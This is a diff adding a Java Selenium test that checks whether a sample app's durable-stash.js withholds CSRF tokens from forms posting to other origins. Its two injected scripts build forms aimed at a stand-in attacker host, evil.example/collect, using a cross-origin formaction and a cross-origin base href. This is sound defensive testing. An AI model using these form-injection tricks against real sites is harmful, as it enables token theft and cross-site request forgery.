@@ -1,0 +1,132 @@
+package dev.durablestash.sample.counter;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.openqa.selenium.By;
+import org.openqa.selenium.JavascriptExecutor;
+import org.openqa.selenium.WebDriver;
+import org.openqa.selenium.support.ui.ExpectedConditions;
+import org.openqa.selenium.support.ui.WebDriverWait;
+
+/**
+ * {@code /durable-stash.js} must add the CSRF token only to requests to the page's own origin. A
+ * form whose own action is same-origin but whose submit button has a cross-origin
+ * {@code formaction} posts to the other origin: the token must not go with it.
+ */
+class CsrfLeakBrowserEndToEndTest {
+
+    private static final Duration PATIENCE = Duration.ofSeconds(30);
+
+    @TempDir
+    static Path storage;
+
+    static SampleApp app;
+    static WebDriver browser;
+    static Path browserProfile;
+
+    @BeforeAll
+    static void startAppAndBrowser() throws IOException {
+        if (!CounterBrowserEndToEndTest.BROWSER_INSTALLED) {
+            return;
+        }
+        app = SampleApp.startWith(List.of("durable-stash.storage.type=filesystem",
+                "durable-stash.storage.filesystem.directory=" + storage, "spring.profiles.active=secure"));
+        browserProfile = Files.createTempDirectory("counter-mvc-csrf-chromium-");
+        browser = CounterBrowserEndToEndTest.startChromium(browserProfile, true);
+    }
+
+    @AfterAll
+    static void stopBrowserAndApp() {
+        if (browser != null) {
+            browser.quit();
+        }
+        if (app != null) {
+            app.close();
+        }
+        if (browserProfile != null) {
+            CounterBrowserEndToEndTest.deleteQuietly(browserProfile);
+        }
+    }
+
+    @Test
+    void aSubmitButtonWithACrossOriginFormactionGetsNoCsrfToken() {
+        assumeTrue(CounterBrowserEndToEndTest.BROWSER_INSTALLED, CounterBrowserEndToEndTest.NO_BROWSER);
+        openHomePageLoggedIn();
+
+        Object leaked = ((JavascriptExecutor) browser).executeScript("""
+                var form = document.createElement('form');
+                form.method = 'post';
+                form.action = '/somewhere';
+                var button = document.createElement('button');
+                button.type = 'submit';
+                button.setAttribute('formaction', 'https://evil.example/collect');
+                form.appendChild(button);
+                document.body.appendChild(form);
+                var sent = null;
+                form.addEventListener('submit', function (event) {
+                  event.preventDefault();
+                  var field = form.querySelector('input[name="_csrf"]');
+                  sent = field ? field.value : '';
+                });
+                button.click();
+                return sent;
+                """);
+        assertThat(leaked).as("the CSRF token in a form posted to https://evil.example").isEqualTo("");
+    }
+
+    /**
+     * A relative action resolves against the document's base URL ({@code <base href>}), not against
+     * {@code location.href}: with a cross-origin base the form posts to the other origin.
+     */
+    @Test
+    void aRelativeActionUnderACrossOriginBaseGetsNoCsrfToken() {
+        assumeTrue(CounterBrowserEndToEndTest.BROWSER_INSTALLED, CounterBrowserEndToEndTest.NO_BROWSER);
+        openHomePageLoggedIn();
+
+        Object leaked = ((JavascriptExecutor) browser).executeScript("""
+                var base = document.createElement('base');
+                base.href = 'https://evil.example/';
+                document.head.appendChild(base);
+                var form = document.createElement('form');
+                form.method = 'post';
+                form.setAttribute('action', 'collect');
+                var button = document.createElement('button');
+                button.type = 'submit';
+                form.appendChild(button);
+                document.body.appendChild(form);
+                var sent = null;
+                form.addEventListener('submit', function (event) {
+                  event.preventDefault();
+                  var field = form.querySelector('input[name="_csrf"]');
+                  sent = field ? form.action + ' ' + field.value : '';
+                });
+                button.click();
+                return sent;
+                """);
+        assertThat(leaked).as("the CSRF token in a form posted to https://evil.example/collect").isEqualTo("");
+    }
+
+    private static void openHomePageLoggedIn() {
+        browser.manage().deleteAllCookies();
+        browser.get(app.baseUrl() + "/");
+        if (browser.getCurrentUrl().contains("/login")) {
+            browser.findElement(By.id("username")).sendKeys("ada");
+            browser.findElement(By.id("password")).sendKeys("ada");
+            browser.findElement(By.cssSelector("button[type=submit]")).click();
+            new WebDriverWait(browser, PATIENCE)
+                    .until(ExpectedConditions.not(ExpectedConditions.urlContains("/login")));
+        }
+        assertThat(browser.findElements(By.cssSelector("meta[name=_csrf]"))).isNotEmpty();
+    }
+}
